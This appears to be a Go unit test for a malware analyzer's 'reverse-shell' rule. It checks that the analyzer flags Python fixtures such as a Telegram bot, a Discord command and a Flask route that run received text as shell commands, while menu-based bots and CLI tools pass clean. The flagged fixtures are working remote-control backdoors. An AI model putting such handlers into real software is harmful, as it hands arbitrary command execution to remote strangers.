package analyze

import "testing"

// Bots and web routes that run what they receive, next to a bot that
// runs fixed commands from a menu and CLI tools that run their user's.
func TestRemoteControl(t *testing.T) {
	tests := []verdictCase{
		{"telegram bot running message text", map[string]string{"p/bot.py": "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(content_types=['text'])\ndef handle(message):\n    out = subprocess.check_output(message.text, shell=True)\n    bot.reply_to(message, out)\n"}, "reverse-shell", Malicious},
		{"discord command running its argument", map[string]string{"p/bot.py": "import os\nfrom discord.ext import commands\nbot = commands.Bot(command_prefix='!')\n@bot.command()\nasync def sh(ctx, *, cmd):\n    await ctx.send(os.popen(cmd).read())\n"}, "reverse-shell", Malicious},
		{"flask route running a query argument", map[string]string{"p/web.py": "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n    return subprocess.run(request.args.get('c'), shell=True, capture_output=True).stdout\n"}, "reverse-shell", Malicious},
		{"telegram bot running the text of a message it calls m", map[string]string{"p/bot.py": "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\n@bot.message_handler(func=lambda m: True)\ndef h(m):\n    bot.reply_to(m, subprocess.getoutput(m.text))\n"}, "reverse-shell", Malicious},
		{"telegram bot looking the text of a message up in a menu", map[string]string{"p/bot.py": "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\nMENU = {'/uptime': 'uptime', '/disk': 'df -h'}\n@bot.message_handler(func=lambda m: True)\ndef h(m):\n    if m.text in MENU:\n        bot.reply_to(m, subprocess.getoutput(MENU[m.text]))\n"}, "", Clean},
		{"bot running a fixed command from a menu", map[string]string{"p/bot.py": "import subprocess, telebot\nbot = telebot.TeleBot(TOKEN)\nMENU = {'/uptime': ['uptime'], '/disk': ['df', '-h']}\n@bot.message_handler(content_types=['text'])\ndef handle(message):\n    if message.text == '/uptime':\n        out = subprocess.check_output(['uptime'])\n        bot.reply_to(message, out)\n"}, "", Clean},
		{"click command running its user's command", map[string]string{"p/cli.py": "import subprocess, click\n@click.command()\n@click.argument('cmd')\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n"}, "", Clean},
		{"web route pinging a given host", map[string]string{"p/web.py": "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/ping')\ndef ping():\n    return subprocess.run(['ping', '-c', '1', request.args.get('h')], capture_output=True).stdout\n"}, "", Clean},
	}
	runVerdictCases(t, tests, func(t *testing.T, c verdictCase, r *Result) {
		if c.want != Malicious && hasRule(r, "reverse-shell", Info) {
			t.Errorf("unexpected reverse-shell finding:\n%s", findingLines(r))
		}
	})
}
